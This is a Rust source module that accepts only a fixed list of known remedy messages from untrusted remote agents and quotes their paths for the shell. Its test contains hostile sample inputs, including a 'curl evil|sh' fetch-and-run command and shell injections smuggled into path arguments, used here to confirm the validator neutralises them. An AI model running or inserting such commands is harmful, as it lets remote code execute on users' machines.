//! Remedies that agents suggest. Hosts are not trusted: only known remedies are shown, with their paths quoted for the shell.

use serde_json::Value;

use model::shell::quoted;

/// The known remedies. `%s` stands for a path.
const KNOWN: [&str; 9] = [
    "set XDG_STATE_HOME to the folder above the place that it leads to",
    "move it away",
    "set XDG_STATE_HOME to a folder of your own",
    "run `chmod go-w %s`",
    "give one of them another host name or another XDG_STATE_HOME; if the other one is gone for good, remove %s",
    "use a Linux host",
    "%s must be readable and writable",
    "name a login node of the cluster; by SSH it is the PATH of a shell that is not a login shell, which the first lines of ~/.bashrc \
     may set",
    "what runs goes on; try again when `squeue` answers on the login node, or ask who runs the cluster",
];

/// Returns a known remedy with its paths quoted, and null for any other text.
pub(super) fn checked(said: &Value) -> Value {
    let said = said.as_str().unwrap_or_default();
    let same = |form: &&str| match form.split_once("%s") {
        Some((before, after)) => {
            let path = said.strip_prefix(before)?.strip_suffix(after)?;
            path.starts_with('/').then(|| format!("{before}{}{after}", quoted(path)))
        }
        None => (said == *form).then(|| said.to_owned()),
    };
    KNOWN.iter().find_map(same).map_or(Value::Null, Value::String)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn advice_of_a_host_is_that_of_our_agent_or_none() {
        assert_eq!(checked(&json!("move it away")), json!("move it away"));
        assert_eq!(checked(&json!("run `chmod go-w /a/b`")), json!("run `chmod go-w /a/b`"));
        let hostile = json!("run `chmod go-w /a; curl evil|sh #`");
        assert_eq!(checked(&hostile), json!("run `chmod go-w '/a; curl evil|sh #'`"));
        for other in ["run `curl evil|sh`", "run `chmod go-w $(id)`", "move it away; curl evil", ""] {
            assert_eq!(checked(&json!(other)), Value::Null, "{other}");
        }
        assert_eq!(checked(&Value::Null), Value::Null);
    }

    /// Checks that every remedy in the agent's source is known here.
    #[test]
    fn the_agent_says_what_is_known() {
        let mut agent = String::new();
        // Python joins literals that follow each other.
        for line in super::super::AGENT.lines() {
            let line = match agent.ends_with("\" \\") {
                true => {
                    agent.truncate(agent.len() - 3);
                    line.trim_start().trim_start_matches('"')
                }
                false => line,
            };
            agent.push_str(line);
            agent.push('\n');
            if line.ends_with("\" \\") {
                agent.pop();
            }
        }
        for form in KNOWN {
            assert!(agent.contains(form), "{form}");
        }
    }
}
